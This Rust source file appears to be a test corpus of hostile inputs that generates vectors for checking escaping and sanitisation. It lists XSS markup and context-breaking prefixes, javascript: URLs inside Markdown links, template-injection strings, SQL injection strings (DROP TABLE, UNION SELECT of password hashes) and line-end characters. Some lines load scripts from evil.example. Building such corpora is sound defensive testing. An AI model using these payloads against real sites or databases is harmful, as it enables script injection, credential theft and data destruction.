//! What someone types who means harm: markup, addresses, SQL, and names with line ends. Made by combining, not copied.

/// Markup that would do something in a page that took it as such.
const LIVE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=preload href=//evil.example/x as=script>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<video><source onerror=alert(1)></video>",
    "<p style=background:url(//evil.example)>x</p>",
    "<template><script>alert(1)</script></template>",
];
/// What may stand before it to leave the place where a text is put; `{}` is the markup.
const PLACES: [&str; 9] = [
    "{}",
    "\">{}",
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "--><!-- -->{}<!--",
    "]]>{}",
    "x\" onmouseover=\"alert(1)\" x='{}",
];
/// Addresses that run or load something, in the ways a browser still reads as such.
const RUNS: [&str; 12] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&#58;alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:x",
    "blob:x",
    "view-source:javascript:x",
];
/// Where Markdown takes an address.
const LINKS: [&str; 5] = ["[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][r] [r]: {}"];
/// What a template or a message would replace if what people write were one.
pub const TEMPLATES: [&str; 8] = [
    "{{ 7 * 7 }}",
    "{{ view }}",
    "{% include 'layout.html' %}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "{ $name }",
    "{ DATETIME($x) }",
    "${7*7} #{7*7} <%= 7*7 %>",
];
/// What would end a statement, a text or a number in SQL, on either database.
pub const SQL: [&str; 22] = [
    "'",
    "''",
    "\"",
    "`",
    "\\",
    "%",
    "_",
    "*",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "1 OR 1=1",
    "1; DROP TABLE people",
    "'; DROP TABLE people; --",
    "') UNION SELECT email, password_hash FROM people --",
    "' UNION SELECT NULL,NULL,NULL --",
    "1' AND (SELECT 1 FROM pg_sleep(3)) --",
    "1 AND randomblob(1000000000)",
    "'||(SELECT password_hash FROM people LIMIT 1)||'",
    "$1",
    "? OR :a OR @b",
    "-1e309",
];
/// Line ends and what else must not reach a header, a mail or a log line as such.
pub const ENDS: [&str; 7] = ["\r\n", "\n", "\r", "\u{b}", "\u{85}", "\u{2028}", "\u{1b}[31m"];

/// Every markup in every place, every address in every link, and templates: more than two hundred and fifty.
pub fn vectors() -> Vec<String> {
    let markup = PLACES.iter().flat_map(|place| LIVE.iter().map(|live| place.replace("{}", live)));
    let all = markup.chain(addresses()).chain(TEMPLATES.iter().map(|t| (*t).to_owned()));
    all.collect()
}
/// Links in Markdown that must not lead there.
pub fn addresses() -> impl Iterator<Item = String> {
    LINKS.iter().flat_map(|link| RUNS.iter().map(|runs| link.replace("{}", runs)))
}
/// The markup alone, as it would stand in a page that did not escape it.
pub fn live() -> impl Iterator<Item = &'static str> {
    LIVE.iter().copied()
}
/// Percent-encoded whole, to stand in any part of an address.
pub fn encoded(text: &str) -> String {
    text.bytes().flat_map(|byte| format!("%{byte:02X}").into_bytes()).map(char::from).collect()
}
